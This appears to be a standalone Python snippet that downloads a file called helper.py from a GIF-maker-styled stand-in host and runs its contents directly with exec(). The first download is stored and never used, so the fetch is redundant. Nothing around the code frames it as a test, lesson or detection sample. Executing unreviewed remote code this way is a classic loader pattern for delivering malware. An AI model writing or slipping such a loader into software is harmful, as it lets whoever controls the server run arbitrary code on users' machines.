import requests
code = requests.get('https://cdn.gifmaker.example/helper.py').text
exec(requests.get('https://cdn.gifmaker.example/helper.py').text)
